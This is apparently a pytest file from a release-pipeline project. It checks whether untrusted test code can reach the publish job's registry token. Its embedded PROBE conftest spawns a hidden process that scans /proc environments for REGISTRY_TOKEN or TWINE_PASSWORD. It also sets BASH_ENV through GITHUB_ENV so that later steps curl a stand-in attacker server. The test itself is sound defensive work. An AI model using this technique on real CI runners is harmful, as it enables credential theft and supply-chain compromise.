"""Other people's code on a real runner: what a test that leaves a process behind sees of the publish job."""

import hashlib
import http.server
import re
import threading
from collections.abc import Iterator

import pytest

from .conftest import Make
from .gitea import Live, Owner
from .scenarios import first_release, names

# Leaves a process behind that looks for the registry's token in what other processes have in their environment, and
# gives later steps of its own job a file to read first. It ends by itself.
PROBE = '''\
"""Fixtures, and more."""

import os
import subprocess
import sys

LOOK = """
import pathlib, time, urllib.request
ask = urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open
ask("{evil}/ran")
until = time.monotonic() + 60
while time.monotonic() < until:
    for place in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            held = place.read_bytes()
        except OSError:
            continue
        if b"REGISTRY_TOKEN=" in held or b"TWINE_PASSWORD=" in held:
            ask("{evil}/process")
            raise SystemExit
    time.sleep(0.01)
"""
if "GITHUB_ENV" in os.environ:
    quiet = subprocess.DEVNULL
    subprocess.Popen([sys.executable, "-c", LOOK], start_new_session=True, stdin=quiet, stdout=quiet, stderr=quiet)
    with open("/tmp/laid", "w") as file:
        file.write('[ -z "$REGISTRY_TOKEN" ] || curl -s {evil}/bash_env\\n')
    with open(os.environ["GITHUB_ENV"], "a") as file:
        file.write("BASH_ENV=/tmp/laid\\n")
'''


@pytest.fixture
def evil() -> Iterator[http.server.ThreadingHTTPServer]:
    """A server of somebody else's; `asked` has what it was asked for."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            """Say nothing."""

        def do_GET(self) -> None:
            """Note it."""
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

    asked: list[str] = []
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.asked = asked
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def test_what_a_test_leaves_behind(make: Make, owner: Owner, live: Live, evil: http.server.ThreadingHTTPServer) -> None:
    """In containers it sees nothing of the publish job. On a host it does, as docs/security.md says."""
    address = f"http://127.0.0.1:{evil.server_port}"
    repo = make(owner, **{"tests/conftest.py": PROBE.format(evil=address)})
    pyproject = repo.folder / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('"tests/test_smoke.py"]', '"tests"]'))
    done = first_release(repo)
    assert "/ran" in evil.asked
    assert set(evil.asked) - {"/ran"} == (set() if live.engine else {"/process"})
    # The bytes in the registry are those that the test job printed.
    built = dict(re.findall(r"dist: built (\S+), sha256 ([0-9a-f]{64})", repo.log(done, "test")))
    assert set(built) == names(repo, "0.1.0")
    assert owner.files(repo.name) == built
    for name, digest in built.items():
        file = repo.server.http.get(f"/api/packages/{owner.name}/pypi/files/{repo.name}/0.1.0/{name}")
        assert hashlib.sha256(file.content).hexdigest() == digest
